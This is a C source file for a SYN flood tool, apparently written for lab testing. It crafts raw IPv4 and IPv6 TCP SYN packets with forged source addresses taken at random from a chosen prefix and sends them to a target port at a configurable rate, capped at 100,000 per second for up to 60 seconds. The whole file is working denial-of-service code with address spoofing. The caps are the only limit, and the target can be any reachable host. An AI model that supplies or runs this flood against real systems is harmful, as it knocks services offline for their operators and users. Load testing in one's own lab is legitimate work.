// SPDX-License-Identifier: BSD-2-Clause
// A flood for the lab, within bounds of rate and time: SYNs from random addresses of a prefix and
// random ports, which nobody will complete. In: the options below. Out: one line of JSON on stdout:
// sent (SYNs), seconds. Needs root; the answers go wherever the source prefix is routed to.
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "clock.h"
#include "lib/address.h"
#include "lib/options.h"
#include "lib/prng.h"

#define MAX_RATE    100000
#define MAX_SECONDS 60
#define MIN_PORT    1024
#define TURN_NS	    NS_PER_MS // from one burst to the next

struct syn {
	struct tcphdr tcp;
	uint8_t mss[TCPOLEN_MAXSEG]; // hardly a client's SYN comes without it
};

static struct endpoint target;
static struct prefix source;
static double rate = 1000, seconds = 1;
static uint64_t seed;
static struct prng chance;

static int parse_target(const struct option_row *row, const char *text, char *why)
{
	(void)row;
	if (!endpoint_parse(text, &target) && target.port)
		return 0;
	snprintf(why, OPTION_WHY_SIZE, "must be like 10.0.0.1:80 or [fd00::1]:80");
	return -EINVAL;
}

static int parse_source(const struct option_row *row, const char *text, char *why)
{
	(void)row;
	if (!prefix_parse(text, &source))
		return 0;
	snprintf(why, OPTION_WHY_SIZE, "must be like 10.9.0.0/16 or fd00:9::/48");
	return -EINVAL;
}

static const struct option_row rows[] = {
	{"target", "ADDR:PORT", "where to", parse_target, NULL, 0, 0},
	{"source", "PREFIX", "addresses that the SYNs claim to be from", parse_source, NULL, 0, 0},
	{"rate", "R", "SYNs per second (1000)", option_real, &rate, 1, MAX_RATE},
	{"duration", "S", "seconds (1)", option_real, &seconds, 0.001, MAX_SECONDS},
	{"seed", "N", "of addresses and ports (0)", option_count, &seed, 0, UINT32_MAX},
	{0},
};

static uint32_t sum_words(const void *data, size_t length)
{
	const uint8_t *byte = data;
	uint32_t sum = 0;

	for (size_t i = 0; i < length; i += 2)
		sum += (uint32_t)byte[i] << 8 | byte[i + 1];
	return sum;
}

// `addresses`: source and destination behind one another, as in the IP header.
static struct syn make_syn(const void *addresses, size_t length)
{
	uint64_t port = MIN_PORT + prng_below(&chance, 65536 - MIN_PORT);
	struct syn syn = {
		.tcp = {.source = htons((uint16_t)port),
			.dest = htons(target.port),
			.seq = (uint32_t)prng_next(&chance),
			.doff = sizeof(syn) / 4,
			.syn = 1,
			.window = htons(64240)},
		.mss = {TCPOPT_MAXSEG, TCPOLEN_MAXSEG, 1460 >> 8, 1460 & 0xff},
	};
	uint32_t sum = sum_words(addresses, length) + IPPROTO_TCP + (uint32_t)sizeof(syn) +
		       sum_words(&syn, sizeof(syn));

	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	syn.tcp.check = htons((uint16_t)~sum);
	return syn;
}

static int send_syn(int fd, void *header, size_t length, struct syn *syn)
{
	struct sockaddr_storage to;
	struct endpoint host = {.address = target.address}; // a raw socket knows no port
	struct iovec parts[] = {{header, length}, {syn, sizeof(*syn)}};
	struct msghdr message = {
		.msg_name = &to,
		.msg_namelen = endpoint_to_sockaddr(&host, &to),
		.msg_iov = parts,
		.msg_iovlen = 2,
	};

	return sendmsg(fd, &message, 0) < 0 ? -errno : 0;
}

// The kernel fills in length, identification and checksum.
static int send_ipv4(int fd, const struct address *from)
{
	struct iphdr ip = {
		.version = 4,
		.ihl = sizeof(ip) / 4,
		.ttl = 64,
		.protocol = IPPROTO_TCP,
		.saddr = htonl((uint32_t)from->bits),
		.daddr = htonl((uint32_t)target.address.bits),
	};
	struct syn syn = make_syn(&ip.saddr, 2 * sizeof(ip.saddr));

	return send_syn(fd, &ip, sizeof(ip), &syn);
}

static struct in6_addr ipv6_of(const struct address *address)
{
	struct endpoint endpoint = {.address = *address};
	struct sockaddr_storage socket_address;

	endpoint_to_sockaddr(&endpoint, &socket_address);
	return ((struct sockaddr_in6 *)&socket_address)->sin6_addr;
}

static int send_ipv6(int fd, const struct address *from)
{
	struct ip6_hdr ip = {
		.ip6_flow = htonl(6u << 28),
		.ip6_plen = htons(sizeof(struct syn)),
		.ip6_nxt = IPPROTO_TCP,
		.ip6_hlim = 64,
		.ip6_src = ipv6_of(from),
		.ip6_dst = ipv6_of(&target.address),
	};
	struct syn syn = make_syn(&ip.ip6_src, 2 * sizeof(ip.ip6_src));

	return send_syn(fd, &ip, sizeof(ip), &syn);
}

// Sends what is due by now and waits for the next turn, until the time is over.
static int flood(int fd)
{
	const struct timespec turn = {.tv_nsec = TURN_NS};
	uint32_t hosts = prefix_hosts(&source);
	uint64_t start = clock_now(), sent = 0;
	double elapsed = 0;

	while (elapsed < seconds) {
		for (; (double)sent < elapsed * rate; sent++) {
			struct address from =
				prefix_host(&source, (uint32_t)prng_below(&chance, hosts), hosts);
			int err = from.family == AF_INET ? send_ipv4(fd, &from)
							 : send_ipv6(fd, &from);

			if (err)
				return err;
		}
		nanosleep(&turn, NULL);
		elapsed = (double)(clock_now() - start) / NS_PER_S;
	}
	printf("{\"sent\":%llu,\"seconds\":%.3f}\n", (unsigned long long)sent, elapsed);
	return 0;
}

int main(int argc, char **argv)
{
	int rest = options_parse(rows, "synflood --target ADDR:PORT --source PREFIX [options]",
				 argc, argv);
	int fd, err;

	if (rest <= 0)
		return rest ? 2 : 0;
	if (!target.port || target.address.family != source.base.family) {
		fputs("synflood: --target and --source of one family are needed; try --help\n",
		      stderr);
		return 2;
	}
	chance = prng_seed(seed, 0);
	fd = socket(target.address.family, SOCK_RAW | SOCK_CLOEXEC,
		    IPPROTO_RAW); // headers are ours
	err = fd < 0 ? -errno : flood(fd);
	if (err)
		fprintf(stderr, "synflood: cannot send: %s\n", strerror(-err));
	if (fd >= 0)
		close(fd);
	return err ? 1 : 0;
}
